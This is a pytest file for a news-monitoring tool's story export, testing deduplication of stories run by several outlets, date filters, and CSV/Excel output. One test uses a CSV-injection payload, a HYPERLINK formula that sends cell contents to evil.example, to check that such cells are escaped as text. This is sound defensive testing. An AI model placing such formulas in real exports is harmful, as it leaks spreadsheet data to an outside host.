"""`vigie articles export --stories`: a story a line or row, once however many outlets ran it,
from feeds read from files into a real database, with real rule files."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from click.testing import CliRunner, Result

from monitor.cli import main

RESCUE = (
    "Coastguard crews pulled forty people from a crowded dinghy off Gravelines before dawn"
    " after it began to take on water in a heavy swell. The passengers, among them several"
    " children, were brought ashore at Dunkirk and checked by paramedics at the harbour. A"
    " spokesperson for the maritime prefecture said the boat had left a beach north of the town"
    " during the night and that a patrol vessel had spotted it drifting with its engine"
    " stalled. Rescue teams described the sea as rough and the water as very cold for the time"
    " of year."
)
HERALD_ADDS = " Aid groups in Calais said the crossing attempts had not slowed despite the weather."


def vigie(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def item(title: str, link: str, published: str, text: str) -> str:
    return (
        f"<item><title>{escape(title)}</title><link>{link}</link>"
        f"<pubDate>{published}</pubDate><description>{escape(text)}</description></item>"
    )


def feed(path: Path, title: str, *items: str) -> str:
    path.write_text(
        f'<rss version="2.0"><channel><title>{title}</title><language>en</language>'
        f"{''.join(items)}</channel></rss>",
        encoding="utf-8",
    )
    return str(path)


WIRE_RESCUE = "https://wire.example/rescue"


@pytest.fixture
def config(tmp_path: Path, write_config: Callable[..., Path]) -> Path:
    """A wire story run by three outlets, and three stories of one outlet (one of October,
    one that matches no rule). The Herald's copy is collected first, but the wire published
    it an hour and a half earlier, then edited it, which moved its date to noon; Nord carries
    the wire's own link (a copy under the same link: an outlet, not another article)."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "topics.toml").write_text(
        '[[rule]]\nid = "rescue"\nquery = "coastguard"\ntags = ["sea"]\n\n'
        '[[rule]]\nid = "calais"\nquery = "Calais"\ntags = ["calais"]\n',
        encoding="utf-8",
    )
    herald = feed(
        tmp_path / "herald.rss",
        "Herald",
        item("Forty people rescued from sinking dinghy in the Channel",
             "https://herald.example/rescue", "Tue, 10 Nov 2026 09:30:00 GMT",
             RESCUE + HERALD_ADDS),
        item("Calais ferry terminal reopens… at last", "https://herald.example/ferries",
             "Fri, 20 Nov 2026 07:00:00 GMT", "Ferries sail from Calais again after the strike."),
        item("Calais council approves a winter shelter", "https://herald.example/shelter",
             "Thu, 01 Oct 2026 10:00:00 GMT", "The shelter in Calais opens in December."),
        item("Sunny weekend ahead", "https://herald.example/weather",
             "Fri, 20 Nov 2026 06:00:00 GMT", "Clear skies over the coast until Monday."),
    )  # fmt: skip
    sections = {"rules": {"paths": [str(rules)]}}
    path = write_config([{"url": herald, "name": "Herald"}], **sections)
    assert vigie("once", "--config", path).exit_code == 0

    wire_item = item(
        "Coastguard rescues forty people off Gravelines",
        WIRE_RESCUE,
        "Tue, 10 Nov 2026 08:00:00 GMT",
        RESCUE,
    )
    wire = feed(tmp_path / "wire.rss", "Wire", wire_item)
    feeds = [{"url": herald, "name": "Herald"}, {"url": wire, "name": "Wire"}]
    assert vigie("once", "--config", write_config(feeds, **sections)).exit_code == 0

    edited = item(
        "Coastguard rescues forty people from a dinghy off Gravelines",
        WIRE_RESCUE,
        "Tue, 10 Nov 2026 12:00:00 GMT",  # the edit moved its date
        RESCUE,
    )
    feed(tmp_path / "wire.rss", "Wire", edited)
    nord = feed(tmp_path / "nord.rss", "Nord", wire_item)  # the wire's item, its link
    feeds.append({"url": nord, "name": "Nord"})
    assert vigie("once", "--config", write_config(feeds, **sections)).exit_code == 0
    return path


def stories(config: Path, *options: str) -> list[dict]:
    result = vigie("articles", "export", "--stories", *options, "--config", config)
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_a_story_run_by_three_outlets_is_one_line_with_the_copy_that_broke_it(
    config: Path,
) -> None:
    """A researcher's request: the export was an article a line, a story run by five outlets
    five lines (or one, and four outlets in a cell), and what the story was (who broke it and
    when, who ran it, what it matched) took SQL. The copy that broke it is the one published
    first, not the one Vigie happened to collect first, and an edit that moved its date later
    does not move when the story broke."""
    rescue, ferries = stories(config, "--since", "2026-11-01")  # the order it broke in
    assert rescue["title"] == "Coastguard rescues forty people from a dinghy off Gravelines"
    assert (rescue["feed"], rescue["url"]) == ("Wire", WIRE_RESCUE)
    assert rescue["first_published"] == "2026-11-10T08:00:00+00:00" and rescue["dated"] is True
    assert rescue["last_updated"] == "2026-11-10T12:00:00+00:00"  # the edit's date
    assert rescue["articles"] == 2  # the Herald's and the wire's; Nord's is the wire's link
    assert rescue["outlets"] == ["Wire", "Herald", "Nord"] and rescue["outlet_count"] == 3
    assert (rescue["rules"], rescue["tags"]) == (["calais", "rescue"], ["calais", "sea"])
    assert len(rescue["matched_article_ids"]) == 2
    assert rescue["first_article_id"] in rescue["matched_article_ids"]
    assert ferries["title"] == "Calais ferry terminal reopens… at last"
    assert (ferries["articles"], ferries["outlets"]) == (1, ["Herald"])
    assert ferries["rules"] == ["calais"]

    # From a story row to its article rows: the article export's rows of its matched ids.
    articles = [
        json.loads(line)
        for line in vigie(
            "articles", "export", "--since", "2026-11-01", "--config", config
        ).stdout.splitlines()
    ]
    for story in (rescue, ferries):
        rows = [a for a in articles if a["id"] in story["matched_article_ids"]]
        assert len(rows) == len(story["matched_article_ids"])
        assert {a["story_id"] for a in rows} == {story["story_id"]}
    assert len(articles) == 3  # two of one story


def test_story_export_chooses_as_the_article_export_does(config: Path) -> None:
    """--since and --until look at when a story broke, so that a story falls in one period
    (the Herald's copy of 09:30 does not bring back a story that broke at 08:00); --rule,
    --tag, --feed and --language choose the stories with such a match, outlet or article."""
    titles = lambda *options: [s["title"] for s in stories(config, *options)]  # noqa: E731
    rescue = "Coastguard rescues forty people from a dinghy off Gravelines"
    ferries = "Calais ferry terminal reopens… at last"
    shelter = "Calais council approves a winter shelter"
    assert titles("--since", "0") == [shelter, rescue, ferries]  # the weather matched nothing
    assert titles("--since", "2026-11-10T08:30") == [ferries]
    assert titles("--since", "0", "--until", "2026-11-10T08:00") == [shelter]
    assert titles("--since", "0", "--rule", "rescue") == [rescue]
    [only_sea] = stories(config, "--since", "0", "--tag", "sea")
    assert (only_sea["rules"], only_sea["tags"]) == (["rescue"], ["sea"])
    assert titles("--since", "0", "--feed", "Nord") == [rescue]  # its copy under the wire's link
    assert titles("--since", "0", "--feed", "Herald") == [shelter, rescue, ferries]
    assert titles("--since", "0", "--language", "fr") == []
    # When Vigie collected them: the Herald's three in its first poll, in story order.
    assert titles("--since", "0", "--by", "first-seen") == [rescue, ferries, shelter]

    result = vigie("articles", "export", "--stories", "--since", "0", "--config", config)
    assert result.stderr.strip() == "3 stories (4 matched articles) exported"


def test_story_export_csv_is_a_story_a_row_in_utf8_for_excel_too(config: Path) -> None:
    export = ["articles", "export", "--stories", "--since", "0", "--format", "csv"]
    result = CliRunner(charset="latin-1").invoke(main, [*export, "--config", str(config)])
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode("utf-8")  # whatever the terminal's encoding
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["title"] for r in rows] == [
        "Calais council approves a winter shelter",
        "Coastguard rescues forty people from a dinghy off Gravelines",
        "Calais ferry terminal reopens… at last",
    ]
    rescue = rows[1]
    assert rescue["outlets"] == "Wire; Herald; Nord" and rescue["outlet_count"] == "3"
    assert rescue["rules"] == "calais rescue" and rescue["dated"] == "True"
    assert len(rescue["matched_article_ids"].split()) == 2
    excel = vigie(*export, "--excel", "--config", config).stdout_bytes
    assert excel.startswith(b"\xef\xbb\xbfstory_id,")


def test_story_export_csv_cells_from_a_feed_are_never_formulas(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """As in the article export: a headline or a feed's title a spreadsheet would run as a
    formula (OWASP's CSV injection) is written as text, a ' before it."""
    title = '=HYPERLINK("https://evil.example/?"&A1,"Police in Calais")'
    text = "Police cleared a camp in Calais."
    path = feed(tmp_path / "f.rss", "@feed", item(title, "https://news.example/x", "", text))
    rules = {"paths": [str(Path(__file__).resolve().parents[1] / "rules")]}
    config = write_config([path], rules=rules)
    assert vigie("once", "--config", config).exit_code == 0
    export = ("articles", "export", "--stories", "--since", "0", "--format", "csv")
    [row] = csv.DictReader(io.StringIO(vigie(*export, "--config", config).stdout))
    assert (row["title"], row["feed"], row["outlets"]) == ("'" + title, "'@feed", "'@feed")
